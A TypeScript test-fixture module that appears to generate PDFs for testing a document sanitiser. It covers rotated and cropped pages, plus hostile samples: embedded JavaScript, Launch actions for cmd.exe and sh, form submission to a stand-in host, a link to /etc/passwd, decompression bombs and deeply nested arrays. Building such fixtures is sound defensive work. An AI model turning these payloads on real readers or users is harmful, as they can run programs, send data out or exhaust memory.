import { degrees, PDFDict, PDFDocument, PDFHexString, PDFName, PDFNumber, PDFRawStream, PDFString, StandardFonts, type PDFPage } from "@cantoo/pdf-lib";
import { deflateSync } from "node:zlib";
import { pdfOf } from "./papers.ts";

const name = (s: string): PDFName => PDFName.of(s);

/** One page of that size, with its own words near the middle of what is shown. */
async function page(width: number, height: number, change: (page: PDFPage) => void, words: string): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const made = doc.addPage([width, height]);
  made.drawText(words, { x: width / 3, y: height / 2, size: 14, font });
  change(made);
  return doc.save();
}

/** Pages of every shape, by what is odd about them. */
export const SHAPES: Readonly<Record<string, () => Promise<Uint8Array>>> = {
  "turned 90": () => page(595, 842, (p) => p.setRotation(degrees(90)), "Turned ninety"),
  "turned 180": () => page(595, 842, (p) => p.setRotation(degrees(180)), "Turned half"),
  "turned 270": () => page(595, 842, (p) => p.setRotation(degrees(270)), "Turned back"),
  "cropped": () => page(800, 1000, (p) => p.setCropBox(100, 150, 500, 700), "Cropped page"),
  "turned and cropped": () => page(800, 1000, (p) => { p.setCropBox(100, 150, 500, 700); p.setRotation(degrees(90)); }, "Both of them"),
  "A3 landscape": () => page(1191, 842, () => undefined, "A wide sheet"),
  "not at the origin": () => page(595, 842, (p) => { p.setMediaBox(-200, -300, 595, 842); p.drawText("Shifted sheet", { x: 0, y: 100, size: 14 }); }, "lost"),
  "small": () => page(200, 280, () => undefined, "A small card"),
  "in larger units": () => page(300, 400, (p) => p.node.set(name("UserUnit"), PDFNumber.of(4)), "A plan drawn"),
};

const base = async (): Promise<PDFDocument> => PDFDocument.load(await pdfOf(2, "Hostile"));
const annotate = (doc: PDFDocument, ...all: object[]): void => {
  const { context } = doc;
  doc.getPages()[0]!.node.set(name("Annots"), context.obj(all.map((a) => context.register(context.obj({ Type: "Annot", Rect: [10, 10, 90, 30], ...a } as never)))));
};

/** Files that act, comment, sound or hold others, with what must be told of each. */
export const ACTIVE: Readonly<Record<string, { make: () => Promise<Uint8Array>; told: readonly string[] }>> = {
  "scripts": {
    told: ["scripts were left out: 3."],
    async make() {
      const doc = await base();
      doc.addJavaScript("main", "app.alert(1)");
      doc.catalog.set(name("OpenAction"), doc.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(2)") }));
      doc.getPages()[1]!.node.set(name("AA"), doc.context.obj({ O: { S: "JavaScript", JS: PDFString.of("app.alert(3)") } }));
      return doc.save();
    },
  },
  "launching and submitting": {
    told: ["actions that start a program were left out: 2.", "actions that send or fetch a form were left out: 1."],
    async make() {
      const doc = await base();
      annotate(
        doc,
        { Subtype: "Link", A: { S: "Launch", F: PDFString.of("cmd.exe") } },
        { Subtype: "Link", A: { S: "SubmitForm", F: PDFString.of("http://harbour.example/take"), Next: { S: "Launch", F: PDFString.of("sh") } } },
      );
      return doc.save();
    },
  },
  "links out of the file": {
    told: ["links to other files were left out: 2.", "links to addresses that are not of the web or mail were left out: 1."],
    async make() {
      const doc = await base();
      annotate(
        doc,
        { Subtype: "Link", A: { S: "GoToR", F: PDFString.of("/etc/passwd"), D: [0, name("Fit")] } },
        { Subtype: "Link", A: { S: "GoToE", D: [0, name("Fit")] } },
        { Subtype: "Link", A: { S: "URI", URI: PDFString.of("javascript:alert(1)") } },
      );
      return doc.save();
    },
  },
  "media and comments": {
    told: ["sound, film and 3D were left out: 2.", "comments and marks made on the pages were left out: 3."],
    async make() {
      const doc = await base();
      const note = (subtype: string) => ({ Subtype: subtype, Contents: PDFHexString.fromText("hidden remark") });
      annotate(doc, note("RichMedia"), note("Screen"), note("Text"), note("Highlight"), note("FreeText"), { Subtype: "Popup" });
      return doc.save();
    },
  },
  "attachments": {
    told: ["attached files were left out: 2."],
    async make() {
      const doc = await base();
      await doc.attach(new TextEncoder().encode("hidden words"), "hidden.txt", { mimeType: "text/plain" });
      annotate(doc, { Subtype: "FileAttachment", Contents: PDFHexString.fromText("hidden") });
      return doc.save();
    },
  },
  "a dynamic form": {
    told: ["the parts of its form that only some programs show were left out: 1."],
    async make() {
      const doc = await base();
      doc.catalog.set(name("AcroForm"), doc.context.obj({ Fields: [], XFA: PDFString.of("<xdp/>") }));
      return doc.save();
    },
  },
  "a signature": {
    told: ["it was signed electronically; the signature does not hold in the pack."],
    async make() {
      const doc = await base();
      const { context } = doc;
      const field = context.register(context.obj({ FT: "Sig", T: PDFString.of("s"), V: { Type: "Sig", Filter: "Adobe.PPKLite" } }));
      doc.catalog.set(name("AcroForm"), context.obj({ Fields: [field], SigFlags: 3 }));
      return doc.save();
    },
  },
};

/** A form whose text no program has drawn yet. */
export async function undrawnForm(text: string): Promise<Uint8Array> {
  const doc = await base();
  const field = doc.getForm().createTextField("name");
  field.addToPage(doc.getPages()[0]!, { x: 72, y: 500, width: 200, height: 24 });
  const bytes = await doc.save();
  const again = await PDFDocument.load(bytes);
  for (const [, object] of again.context.enumerateIndirectObjects()) {
    if (!(object instanceof PDFDict)) continue;
    if (object.get(name("FT")) === name("Tx")) object.set(name("V"), PDFHexString.fromText(text));
    object.delete(name("AP"));
  }
  return again.save({ updateFieldAppearances: false });
}

const zeros = (bytes: number): Uint8Array => deflateSync(Buffer.alloc(bytes), { level: 9 });

/** Small files that unpack to gigabytes, by where the weight lies. */
export const BOMBS: Readonly<Record<string, () => Promise<Uint8Array>>> = {
  "the drawing of a page": () => withStream(zeros(280 * 2 ** 20), {}, (doc, ref) => doc.getPages()[0]!.node.set(name("Contents"), ref)),
  "a drawing packed twice": () => withStream(deflateSync(zeros(280 * 2 ** 20)), { Filter: [name("FlateDecode"), name("FlateDecode")] },
    (doc, ref) => doc.getPages()[0]!.node.set(name("Contents"), ref)),
  "a picture": () => withStream(zeros(540 * 2 ** 20), { Type: "XObject", Subtype: "Image", Width: 10_000, Height: 56_623, BitsPerComponent: 8, ColorSpace: "DeviceGray" },
    (doc, ref) => doc.getPages()[0]!.node.Resources()!.set(name("XObject"), doc.context.obj({ Im: ref }))),
  "a picture by its measures": () => withStream(zeros(10), { Type: "XObject", Subtype: "Image", Width: 100_000, Height: 100_000, BitsPerComponent: 1, ColorSpace: "DeviceGray" },
    (doc, ref) => doc.getPages()[0]!.node.Resources()!.set(name("XObject"), doc.context.obj({ Im: ref }))),
};

async function withStream(
  packed: Uint8Array, rest: Record<string, unknown>, put: (doc: PDFDocument, ref: ReturnType<PDFDocument["context"]["register"]>) => void,
): Promise<Uint8Array> {
  const doc = await base();
  const dict = PDFDict.fromMapWithContext(new Map(), doc.context);
  for (const [key, value] of Object.entries({ Filter: "FlateDecode", Length: packed.length, ...rest })) dict.set(name(key), doc.context.obj(value as never));
  put(doc, doc.context.register(PDFRawStream.of(dict, packed)));
  return doc.save();
}

/** An object stream of gigabytes: opening the file is what unpacks it. */
export function objectStreamBomb(): Uint8Array {
  const packed = deflateSync(Buffer.alloc(800 * 2 ** 20, 32), { level: 9 });
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n")];
  parts.push(Buffer.from(`3 0 obj\n<</Type/ObjStm/N 1/First 10/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`), packed);
  parts.push(Buffer.from("\nendstream\nendobj\ntrailer\n<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF\n"));
  return Buffer.concat(parts);
}

/** Locked by its owner alone, or by its reader's password too. */
export async function locked(password?: string): Promise<Uint8Array> {
  const doc = await base();
  doc.encrypt({ ownerPassword: "owner", ...(password === undefined ? {} : { userPassword: password }) });
  return doc.save();
}

/** Arrays within arrays, deeper than any program means. */
export async function deepNest(): Promise<Uint8Array> {
  const doc = await base();
  const text = Buffer.from(await doc.save({ useObjectStreams: false })).toString("latin1");
  return Buffer.from(text.replace(/\/Resources <</, `/Resources << /Deep ${"[".repeat(200_000)}${"]".repeat(200_000)} `), "latin1");
}
